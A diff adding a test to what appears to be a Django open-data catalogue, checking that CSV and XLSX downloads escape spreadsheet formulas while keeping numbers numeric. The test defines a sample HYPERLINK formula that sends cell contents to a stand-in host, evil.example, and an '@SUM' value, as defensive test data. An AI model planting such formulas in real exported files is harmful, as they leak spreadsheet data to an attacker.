@@ -353,3 +353,35 @@ def test_staff_detail_shows_the_history(client, catalog, producer):
     login_staff(client, producer)
     page = text(client.get(f"/data/staf/dataset/{dataset.name}/"))
     assert "Dataset dibuat" in page and "Berkas diunggah" in page
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+
+
+def test_downloads_neutralise_formulas_and_keep_numbers(client, catalog):
+    text = (
+        "kelurahan,kecamatan,tahun,jumlah_penduduk,luas_km2\n"
+        f'"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),2024,-12,-1.5\n'
+    )
+    dataset, resource = catalog.published("Data Berformula", text=text)
+    base = f"/data/dataset/{dataset.name}/sumber/{resource.pk}/data."
+    body = b"".join(client.get(base + "csv").streaming_content).decode()
+    import csv
+    import io
+
+    assert list(csv.reader(io.StringIO(body)))[1] == [
+        "'" + FORMULA,
+        "'@SUM(A1)",
+        "2024",
+        "-12",
+        "-1.5",
+    ]
+
+    import openpyxl
+
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(b"".join(client.get(base + "xlsx").streaming_content))
+    )
+    cells = list(workbook.active.iter_rows(min_row=2, max_row=2))[0]
+    assert [c.value for c in cells] == ["'" + FORMULA, "'@SUM(A1)", 2024, -12, -1.5]
+    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "n"]
